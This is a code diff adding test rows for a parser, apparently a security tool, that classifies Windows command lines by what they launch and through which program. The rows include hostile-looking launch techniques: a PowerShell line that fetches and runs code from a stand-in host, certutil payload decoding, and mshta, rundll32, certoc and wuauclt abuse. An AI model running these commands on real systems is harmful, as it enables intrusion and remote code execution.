@@ -41,8 +41,31 @@ powershell -c "Invoke-CimMethod Win32_Process Create @{CommandLine='C:\x\a.exe'}
 powershell -ea QQBBAEEA -c C:\x\a.exe | executable | c:\x\a.exe | powershell
 cmd /c certutil -decode C:\x\a.txt C:\x\a.exe & C:\x\a.exe | executable | c:\x\a.exe | cmd>certutil
 certutil -f -decode C:\x\a.txt C:\x\a.exe | document | c:\x\a.exe | certutil
+cmd /c type C:\x\a.ps1 | powershell - | script | c:\x\a.ps1 | cmd>powershell
+cmd /c powershell -nop - < C:\x\a.ps1 | script | c:\x\a.ps1 | cmd>powershell
+cmd /c echo iex (irm http://e.test) | powershell -nop - | inline_code | - | cmd>powershell
+cmd /c "echo C:\x\a.exe | cmd" | executable | c:\x\a.exe | cmd>cmd
+powershell -c rundll32.exe 'C:\x\a.dll,Go' | library | c:\x\a.dll | powershell>rundll32
+powershell -c "iex (gc 'C:\x y\a.txt' -raw)" | inline_code | c:\x y\a.txt | powershell
+powershell -c "$c=gc C:\x\a.txt; iex $c" | inline_code | c:\x\a.txt | powershell
+powershell -c "$p='C:\x\a.exe'; & $p" | inline_code | c:\x\a.exe | powershell
+powershell -c "$d='C:\x'; & $d\a.exe" | inline_code | c:\x\a.exe | powershell
+python -c "import os;os.system('C:\\x\\a.exe')" | inline_code | c:\x\a.exe | python
+mshta javascript:GetObject("script:C:\x\a.sct") | inline_code | c:\x\a.sct | mshta
+cmd /c start /min "" "C:\a b\c.exe" | executable | c:\a b\c.exe | cmd>start
+cmd /c start /min /d "C:\a b" "t" /b c.exe -q | executable | c:\a b\c.exe | cmd>start
+cmd /c start "C:\x\a.exe" | none | - | cmd>start
+C:\Users\Public\start.exe C:\Windows\notepad.exe | executable | c:\users\public\start.exe | -
+C:\Program Files\Start Menu X\StartMenuX.exe | executable | c:\program files\start menu x\startmenux.exe | -
+C:\Program Files\A -- B\x.exe | executable | c:\program files\a -- b\x.exe | -
+C:\x\python a.py C:\y\b.exe | script | a.py | python
+tttracer C:\x\a.exe | executable | c:\x\a.exe | tttracer
+certoc -LoadDLL C:\x\a.dll | library | c:\x\a.dll | certoc
+wuauclt /UpdateDeploymentProvider C:\x\a.dll /RunHandlerComServer | library | c:\x\a.dll | wuauclt
+C:\x\a.settingcontent-ms | document | c:\x\a.settingcontent-ms | -
 powershell -c "Get-Date; 1" | inline_code | - | powershell
-powershell -c "$x='C:\x\a.exe'; start $x" | inline_code | - | powershell
+powershell -c "$x='C:\x\a.exe'; start $x" | inline_code | c:\x\a.exe | powershell
+powershell -c "$x=(whoami); start $x" | inline_code | - | powershell
 mshta vbscript:CreateObject("WScript.Shell").Run("C:\x\a.exe",0)(window.close) | inline_code | c:\x\a.exe | mshta
 rundll32 advpack.dll,RegisterOCX "cmd.exe /c C:\x\a.exe" | executable | c:\x\a.exe | rundll32>cmd
 rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 C:\x\a.inf | document | c:\x\a.inf | rundll32
@@ -155,6 +178,7 @@ test('a key with a blank in its name is read whole, and variables in arguments s
   expect(readValueTarget("powershell -c iex (gp 'HKCU:\\Software\\A B').Y").registryPath).toBe(
     'HKCU\\Software\\A B\\Y',
   );
+  expect(readValueTarget('"C:\\A B\\c.exe" "-q" "x y"').arguments).toBe('"-q" "x y"');
   expect(readValueTarget('%ProgramFiles%\\A B\\c.exe %TEMP%\\x').arguments).toBe('%TEMP%\\x');
   expect(readValueTarget('powershell -c "& ${'.concat('env:TEMP}\\a.exe"')).path).toBe(
     '?:\\users\\*\\appdata\\local\\temp\\a.exe',
